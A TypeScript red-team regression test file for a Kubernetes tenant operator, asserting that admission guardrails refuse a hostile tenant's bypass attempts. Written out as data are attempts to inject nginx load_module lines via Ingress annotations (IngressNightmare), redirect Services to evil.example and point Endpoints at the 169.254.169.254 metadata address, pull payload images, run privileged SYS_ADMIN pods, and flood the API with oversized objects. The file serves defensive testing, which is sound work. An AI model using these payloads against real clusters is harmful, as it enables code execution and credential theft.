// Bypasses of the guardrails found by the red team (issue 12): a hostile member of team A, through kubectl
// impersonation of the user and the team's directory group, tries what the guardrail policies
// (deploy/admission/guard-*.yaml) and the object-size cap (deploy/admission/tenant-object-size.yaml) once missed. Each
// test asserts the attack is refused (what got through is in the assertion message).
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { validTenant } from '../fixtures/tenants.ts';
import { testCluster, testEnvironment, uniqueName } from '../support/cluster.ts';
import { deployment, ingress, service } from '../support/guardrail-objects.ts';
import { kubectl } from '../support/kubectl.ts';
import { startOperator, waitForPhase } from '../support/operator.ts';

const { http, kubeconfig } = testCluster();
const { domain } = testEnvironment().platform;
startOperator();
const [teamA, teamB] = [uniqueName('rt-a'), uniqueName('rt-b')];
const scratch = mkdtempSync(join(tmpdir(), 'landlord-redteam-'));
const memberOfA = ['--as', 'mallory@financecore.example', '--as-group', teamA];

/** kubectl as the member of A in A's namespace: what it printed, and whether it succeeded. */
async function asMember(...args: string[]): Promise<{ ok: boolean; output: string }> {
  try {
    const { stdout } = await kubectl(kubeconfig, ...memberOfA, '-n', teamA, ...args);
    return { ok: true, output: stdout };
  } catch (error) {
    return { ok: false, output: (error as { stderr?: string }).stderr ?? String(error) };
  }
}
/** Writes an object to a file kubectl reads. */
function file(object: object): string {
  const path = join(scratch, `${uniqueName('object')}.json`);
  writeFileSync(path, JSON.stringify(object));
  return path;
}
/** Asserts the member's creation of the object is refused; the message says what got through otherwise. */
async function assertRefused(object: object, what: string, because: RegExp): Promise<string> {
  const { ok, output } = await asMember('create', '-f', file(object));
  assert.equal(ok, false, `FINDING: ${what} was admitted: ${output.trim()}`);
  assert.match(output, because, output);
  return output;
}
const byGuardrail = /landlord guardrail/;
const bySizeCap = /landlord object-size/;
const byRbac = /is forbidden: User "mallory@financecore.example" cannot create/;

before(async () => {
  for (const team of [teamA, teamB]) {
    const tenant = validTenant(team, team);
    delete tenant.spec.nodePool;
    await http.request({ method: 'POST', path: '/apis/landlord.dev/v1alpha1/tenants', body: tenant });
  }
  for (const team of [teamA, teamB]) await waitForPhase(team, 'Ready');
  const { ok, output } = await asMember('create', '-f', file(service('web')));
  assert.ok(ok, output);
});
after(() => rmSync(scratch, { recursive: true, force: true }));

describe('red team: Ingress annotations the host and snippet rules miss', () => {
  it('refuses nginx server-alias claiming another team’s Argo CD host', async () => {
    // ingress-nginx serves every alias of server-alias as this Ingress's server: a host outside the subdomain.
    const object = ingress('alias', [`${teamA}.${domain}`], {
      'nginx.ingress.kubernetes.io/server-alias': `argocd-${teamB}.${domain}, www.bank.example`,
    });
    await assertRefused(object, `an Ingress with server-alias argocd-${teamB}.${domain}`, byGuardrail);
  });

  it('refuses the IngressNightmare injection annotations (auth-url, auth-tls-match-cn, mirror-target)', async () => {
    // CVE-2025-24514, CVE-2025-1097, CVE-2025-1098: these annotations reached nginx.conf unescaped.
    const injections: Record<string, string> = {
      'nginx.ingress.kubernetes.io/auth-url': 'http://example.com/#;\nload_module /tmp/evil.so;',
      'nginx.ingress.kubernetes.io/auth-tls-match-cn': 'CN=abc #(\n){}\n }}}\nload_module /tmp/evil.so;',
      'nginx.ingress.kubernetes.io/mirror-target': 'http://evil.example/;\nload_module /tmp/evil.so;',
    };
    const admitted: string[] = [];
    for (const [annotation, value] of Object.entries(injections)) {
      const name = `inject-${annotation.split('/')[1]}`;
      const { ok } = await asMember(
        'create',
        '-f',
        file(ingress(name, [`${teamA}.${domain}`], { [annotation]: value })),
      );
      if (ok) admitted.push(annotation);
    }
    assert.deepEqual(admitted, [], `FINDING: Ingresses admitted with injection annotations ${admitted.join(', ')}`);
  });
});

describe('Ingress annotations a team may still use', () => {
  it('admits server-alias hosts under the team’s subdomain and ordinary nginx annotation values', async () => {
    const object = ingress('ordinary', [`${teamA}.${domain}`], {
      'nginx.ingress.kubernetes.io/server-alias': `www.${teamA}.${domain}, SHOP.${teamA}.${domain}`,
      'nginx.ingress.kubernetes.io/auth-url': 'https://auth.example/verify?rd=$escaped_request_uri&x=1',
      'nginx.ingress.kubernetes.io/cors-allow-headers': 'DNT, Authorization, X-Request-Id',
      'nginx.ingress.kubernetes.io/rewrite-target': '/$2',
    });
    const { ok, output } = await asMember('create', '-f', file(object));
    assert.ok(ok, output);
  });

  it('refuses a regular-expression alias, naming the host and the rule', async () => {
    const alias = `~^.+.${teamA}.${domain}`;
    const output = await assertRefused(
      ingress('regex-alias', [`${teamA}.${domain}`], { 'nginx.ingress.kubernetes.io/server-alias': alias }),
      'an Ingress with a ~regex server-alias',
      /landlord guardrail \(Ingress hosts only under the team’s subdomain\): Ingress \S+ claims ~/,
    );
    assert.ok(output.includes(alias.toLowerCase()), output);
  });

  it('names the annotation and the characters when refusing an injection', async () => {
    await assertRefused(
      ingress('inject-named', [`${teamA}.${domain}`], {
        'nginx.ingress.kubernetes.io/auth-url': 'http://example.com/#;\nload_module /tmp/evil.so;',
      }),
      'an Ingress with an injected auth-url',
      /landlord guardrail \(no nginx configuration characters in annotations\): Ingress \S+ carries nginx.ingress.kubernetes.io\/auth-url with a newline, ';'.*IngressNightmare/,
    );
  });
});

describe('red team: Services changed after creation', () => {
  it('refuses turning a ClusterIP Service into ExternalName by merge patch', async () => {
    const { ok, output } = await asMember(
      'patch',
      'service',
      'web',
      '--type=merge',
      '-p',
      JSON.stringify({ spec: { type: 'ExternalName', externalName: 'kubernetes.default.svc.cluster.local' } }),
    );
    assert.equal(ok, false, `FINDING: patched to ExternalName: ${output}`);
    assert.match(output, /no ExternalName Services/, output);
  });

  it('refuses NodePort and externalIPs by server-side apply', async () => {
    for (const spec of [{ type: 'NodePort' }, { externalIPs: ['10.96.0.1'] }]) {
      const { ok, output } = await asMember(
        'apply',
        '--server-side',
        '--force-conflicts',
        '--field-manager',
        'mallory',
        '-f',
        file(service('web', spec)),
      );
      assert.equal(ok, false, `FINDING: server-side apply of ${JSON.stringify(spec)}: ${output}`);
      assert.match(output, /landlord guardrail/, output);
    }
  });

  it('refuses setting spec.externalName on a ClusterIP Service by merge patch', async () => {
    const { ok, output } = await asMember(
      'patch',
      'service',
      'web',
      '--type=merge',
      '-p',
      JSON.stringify({ spec: { externalName: 'evil.example' } }),
    );
    assert.equal(ok, false, `FINDING: externalName set on a ClusterIP Service: ${output}`);
  });

  it('refuses Endpoints and EndpointSlices pointing a selectorless Service outside (metadata address)', async () => {
    const { ok } = await asMember('create', '-f', file(service('outside', { selector: undefined })));
    assert.ok(ok);
    await assertRefused(
      {
        apiVersion: 'v1',
        kind: 'Endpoints',
        metadata: { name: 'outside' },
        subsets: [{ addresses: [{ ip: '169.254.169.254' }], ports: [{ port: 80 }] }],
      },
      'an Endpoints object to 169.254.169.254',
      byRbac,
    );
    await assertRefused(
      {
        apiVersion: 'discovery.k8s.io/v1',
        kind: 'EndpointSlice',
        metadata: { name: 'outside-1', labels: { 'kubernetes.io/service-name': 'outside' } },
        addressType: 'IPv4',
        endpoints: [{ addresses: ['169.254.169.254'] }],
        ports: [{ port: 80 }],
      },
      'an EndpointSlice to 169.254.169.254',
      byRbac,
    );
  });
});

describe('red team: images from outside the allowed registries', () => {
  it('refuses an image volume (volumes[].image) from an unknown registry', async () => {
    const object = deployment('image-volume', (spec) => {
      spec.volumes = [{ name: 'payload', image: { reference: 'evil.example/payload:1', pullPolicy: 'Always' } }];
      spec.containers[0].volumeMounts = [{ name: 'payload', mountPath: '/payload' }];
    });
    const { ok, output } = await asMember('create', '-f', file(object));
    if (!ok) return;
    // Admitted: a finding only if the API server kept the image volume (the ImageVolume feature is on).
    const { stdout } = await kubectl(kubeconfig, '-n', teamA, 'get', 'deployment', 'image-volume', '-o', 'json');
    const volumes = JSON.parse(stdout).spec.template.spec.volumes ?? [];
    assert.ok(
      !volumes.some((v: { image?: unknown }) => v.image),
      `FINDING: image volume from evil.example admitted and kept: ${output.trim()} ${JSON.stringify(volumes)}`,
    );
  });
});

describe('red team: host access beside the guardrails (Pod Security)', () => {
  it('refuses a bare privileged Pod with SYS_ADMIN in a tenant namespace', async () => {
    const object = {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'privileged' },
      spec: {
        containers: [
          {
            name: 'app',
            image: 'registry.financecore.local/app:1',
            securityContext: { privileged: true, capabilities: { add: ['SYS_ADMIN'] } },
          },
        ],
      },
    };
    await assertRefused(object, 'a privileged Pod', /violates PodSecurity|privileged/);
  });
});

describe('red team: bulk in kinds the object-size cap does not cover', () => {
  const kib = (n: number) => 'x'.repeat(n * 1024);

  it('refuses 200 KiB of annotations on a Deployment (the cap is 16 KiB on ConfigMaps)', async () => {
    const object = deployment('bulk-annotations');
    Object.assign(object.metadata, { annotations: { bulk: kib(200) } });
    await assertRefused(object, 'a Deployment carrying 200 KiB of annotations', bySizeCap);
  });

  it('refuses a Deployment carrying 1 MiB in its pod template (copied into each ReplicaSet)', async () => {
    const object = deployment('bulk-env', (spec) => {
      spec.containers[0].env = Array.from({ length: 8 }, (_, i) => ({ name: `BULK_${i}`, value: kib(128) }));
    });
    await assertRefused(object, 'a Deployment with 1 MiB of env values', bySizeCap);
  });

  it('refuses a ConfigMap of 320 KiB binaryData (counted decoded, not as base64)', async () => {
    const object = {
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'bulk-binary' },
      binaryData: { blob: Buffer.alloc(320 * 1024, 7).toString('base64') },
    };
    await assertRefused(object, 'a ConfigMap with 320 KiB of binaryData', bySizeCap);
  });

  it('refuses a ServiceAccount listing 20,000 imagePullSecrets', async () => {
    const object = {
      apiVersion: 'v1',
      kind: 'ServiceAccount',
      metadata: { name: 'bulk-sa' },
      imagePullSecrets: Array.from({ length: 20_000 }, (_, i) => ({ name: `pull-secret-${i}` })),
    };
    await assertRefused(object, 'a ServiceAccount with 20,000 imagePullSecrets', bySizeCap);
  });

  it('refuses a ConfigMap carrying 600 KiB of labels (only annotations are counted)', async () => {
    const labels = Object.fromEntries(
      Array.from({ length: 5000 }, (_, i) => [`bulk.example/k${String(i).padStart(50, '0')}`, 'v'.repeat(63)]),
    );
    await assertRefused(
      { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'bulk-labels', labels }, data: { a: 'b' } },
      'a ConfigMap with 5,000 labels',
      bySizeCap,
    );
  });

  it('refuses a Lease whose holderIdentity is 512 KiB', async () => {
    await assertRefused(
      {
        apiVersion: 'coordination.k8s.io/v1',
        kind: 'Lease',
        metadata: { name: 'bulk-lease' },
        spec: { holderIdentity: kib(512) },
      },
      'a Lease with a 512 KiB holderIdentity',
      bySizeCap,
    );
  });
});
